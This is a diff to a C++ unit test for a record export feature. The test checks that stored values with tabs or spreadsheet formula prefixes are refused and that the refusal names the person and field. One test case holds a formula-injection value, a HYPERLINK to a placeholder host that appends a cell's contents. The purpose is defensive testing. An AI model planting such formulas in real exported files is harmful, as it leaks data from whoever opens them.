@@ -141,19 +141,37 @@ TEST(ExportFile, PersonLinesCarryEveryFieldInWindows1252AndInNumberOrder)
     EXPECT_TRUE(sink.messages.isEmpty());
 }
 
-TEST(ExportFile, AStoredTextWithATabIsRefusedNamingPersonAndField)
+TEST(ExportFile, AStoredTextItCannotCarryOrThatASpreadsheetWouldRunIsRefusedNamingPersonAndField)
 {
     TempDatabase t;
     RecordingSink sink;
     TestRecord test = childAged(8, 0);
     ASSERT_TRUE(SaveTest(t.db, test, true));
-    t.exec(QStringLiteral("UPDATE TESTPERSON SET SKOLA = 'Nord' || char(9) || 'skole'"));
-    QBuffer buffer;
-    buffer.open(QIODevice::WriteOnly);
-    const ExportResult result = ExportAll(t.db, buffer);
-    EXPECT_EQ(result.outcome, ExportOutcome::Refused);
-    for (const QString& part : {QStringLiteral("nummer 1 "), QStringLiteral("\"Skole\""), QStringLiteral("U+0009")})
-        EXPECT_TRUE(result.message.contains(part)) << result.message.toStdString();
+    // Values other tools may leave; the program itself refuses them.
+    const struct {
+        const char* assignment;
+        QStringList parts; // of the refusal; empty: written
+    } cases[] = {
+        {"SKOLA = 'Nord' || char(9) || 'skole'", {"\"Skole\"", "U+0009"}},
+        {"NAMN = '=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")'", {"\"Navn\" begynner med \"=\"", "formel"}},
+        {"TELEFON = '+47 22 33 44 55'", {"\"Telefon\" begynner med \"+\""}},
+        {"ADRESS = '-1'", {"\"Adresse\" begynner med \"-\""}},
+        {"OTHER = '@SUM(A1)'", {"\"Annet\" begynner med \"@\""}},
+        {"NAMN = 'Ola = Kari-Mette @ +'", {}},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.assignment);
+        ASSERT_EQ(UpdatePerson(t.db, test.person), 1);
+        t.exec(QStringLiteral("UPDATE TESTPERSON SET ") + QString::fromUtf8(c.assignment));
+        QBuffer buffer;
+        buffer.open(QIODevice::WriteOnly);
+        const ExportResult result = ExportAll(t.db, buffer);
+        EXPECT_EQ(result.outcome, c.parts.isEmpty() ? ExportOutcome::Written : ExportOutcome::Refused);
+        if (c.parts.isEmpty())
+            continue;
+        for (const QString& part : c.parts + QStringList{QStringLiteral("Testperson nummer 1 ")})
+            EXPECT_TRUE(result.message.contains(part)) << result.message.toStdString();
+    }
     EXPECT_TRUE(sink.messages.isEmpty()) << "the dialog shows it";
 }
 
